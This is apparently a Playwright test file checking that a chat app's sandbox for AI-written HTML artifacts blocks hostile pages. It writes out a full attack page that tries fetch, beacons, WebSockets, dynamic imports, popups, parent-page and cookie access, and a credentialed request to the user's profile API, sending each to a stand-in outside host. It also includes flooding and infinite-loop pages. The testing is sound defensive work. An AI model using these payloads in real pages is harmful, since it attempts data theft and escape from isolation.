// What a model wrote for a browser runs in a box: whatever it tries, it reaches neither this page nor anything else.

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator, Page } from '@playwright/test';
import { guard } from './hostile-guard.ts';
import { expect, test } from './journeys.ts';
import type { Parley } from './parley.ts';
import { linger } from './pause.ts';
import { enter, person, post } from './rooms.ts';

test.use({ serverOf: 'artifacts' });

/** Each is tried, and says how it went; what throws was refused. */
const attack = (away: string, ours: string): string => `<!doctype html><title>Attack</title>
<link rel="stylesheet" href="${away}/style.css"><link rel="preload" as="image" href="${away}/preload.png">
<style>@import "${away}/import.css"; body { background: url(${away}/back.png); } @font-face { font-family: f; src: url(${away}/f.woff2) }</style>
<img src="${away}/img.png"><video src="${away}/v.mp4"></video><object data="${away}/o"></object><iframe src="${away}/frame"></iframe>
<iframe srcdoc="<img src='${away}/inner.png'>"></iframe><script src="${away}/script.js"></script><script src="${ours}/theme.js"></script>
<form id="form" action="${away}/form" method="post" target="_top"><input name="a" value="b"></form>
<script>
const attempts = {
  fetch: () => fetch('${away}/fetch'),
  own: () => fetch('${ours}/api/v1/profile', { credentials: 'include' }),
  request: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open('GET', '${away}/xhr'); x.send(); }),
  beacon: () => { if (!navigator.sendBeacon('${away}/beacon', 'x')) throw new Error('refused'); return new Promise((done, fail) => setTimeout(() => fail('unheard'), 500)); },
  socket: () => new Promise((done, fail) => { const s = new WebSocket('${away.replace('http', 'ws')}'); s.onopen = done; s.onerror = fail; }),
  events: () => new Promise((done, fail) => { const s = new EventSource('${away}/events'); s.onopen = done; s.onerror = fail; }),
  worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = fail; }),
  service: () => navigator.serviceWorker.register('/theme.js'),
  import: () => import('${away}/module.js'),
  popup: () => { if (open('${away}/popup')) return 1; throw new Error('refused'); },
  top: () => { top.location = '${away}/top'; },
  page: () => parent.document.title,
  pageStorage: () => parent.localStorage.length,
  cookie: () => document.cookie,
  database: () => indexedDB.open('x'),
  caches: () => caches.open('x'),
  rtc: () => new RTCPeerConnection(),
};
(async () => {
  document.getElementById('form').submit();
  for (const [name, attempt] of Object.entries(attempts))
    try { await attempt(); console.log('DONE ' + name); } catch { console.log('refused ' + name); }
  console.log('all tried');
  location = '${away}/gone';
})();
</script>`;

const fenced = (code: string): string => `Here it is.\n\n\`\`\`html\n${code}\n\`\`\``;

/** A chat of these answers, and what holds the frame of the first one. */
const openFirst = async (page: Page, parley: Parley, pages: readonly string[]): Promise<Locator> => {
  const ann = await person(parley, 'ann');
  const { id } = await post(parley, ann.token, '/channels/import', {
    format: 'parley.channel.v1',
    title: 'Artifacts',
    messages: pages.map((code, index) => ({
      id: `m${index}`,
      parent_id: index === 0 ? null : `m${index - 1}`,
      role: 'assistant',
      model: 'fern-2',
      content: fenced(code),
      author_name: 'fern-2',
      created_at: new Date(Date.UTC(2026, 0, 1, 0, index)).toISOString(),
    })),
  });
  await enter(page, ann, `/c/${id}`);
  await page.getByRole('button', { name: 'Open', exact: true }).first().click();
  return page.getByRole('dialog');
};

test('a page that attacks reaches nothing, and one beside it works', async ({ page, parley, findings }) => {
  let asked = 0;
  const away = createServer((_request, response) => {
    asked += 1;
    response.end();
  }).on('upgrade', (_request, socket) => {
    asked += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => {
    away.listen(0, '127.0.0.1', resolve);
  });
  const { port } = away.address() as AddressInfo;
  const hits = await guard(page);
  const dialog = await openFirst(page, parley, [
    attack(`http://127.0.0.1:${port}`, parley.url),
    `<title>Leaves</title><meta http-equiv="refresh" content="0;url=http://127.0.0.1:${port}/refresh">`,
    '<title>Counter</title><button onclick="this.textContent = localStorage.n = Number(localStorage.n ?? 0) + 1">0</button>',
  ]);
  const log = dialog.getByRole('region', { name: 'What the script says' });
  await expect(log).toContainText('all tried', { timeout: 20_000 });
  await expect(log).not.toContainText('DONE');
  await dialog.getByRole('button', { name: 'Next' }).click();
  await expect(dialog.getByRole('heading', { name: 'Leaves' })).toBeVisible();
  await linger(page, 1_000, 'what was going to leave has left');
  expect(asked, 'no address was asked for anything').toBe(0);
  expect(page.url()).toContain('/c/');
  expect(hits).toEqual([]);

  await dialog.getByRole('button', { name: 'Next' }).click();
  const counter = page.frameLocator('iframe[title="Counter"]').getByRole('button');
  await counter.click();
  await counter.click();
  await expect(counter).toHaveText('2');
  await page.keyboard.press('Escape');
  away.close();
  // The browser told of each refusal.
  findings.splice(0);
});

test('one that floods the page is ended, and one that never ends holds up nothing @long', async ({
  page,
  parley,
  findings,
}) => {
  const dialog = await openFirst(page, parley, [
    "<title>Flood</title><script>for (;;) parent.postMessage({ level: 'log', text: 'x' }, '*')</script>",
    '<title>Endless</title><p>before</p><script>setTimeout(() => { for (;;); }, 200)</script>',
    '<title>After</title><p>still here</p>',
  ]);
  await expect(dialog.getByText('far too much')).toBeVisible({ timeout: 20_000 });
  await dialog.getByRole('button', { name: 'Next' }).click();
  await expect(dialog.getByRole('heading', { name: 'Endless' })).toBeVisible();
  await linger(page, 500, 'the loop runs');
  await dialog.getByRole('button', { name: 'Next' }).click();
  await expect(page.frameLocator('iframe[title="After"]').getByText('still here')).toBeVisible();
  findings.splice(0);
});
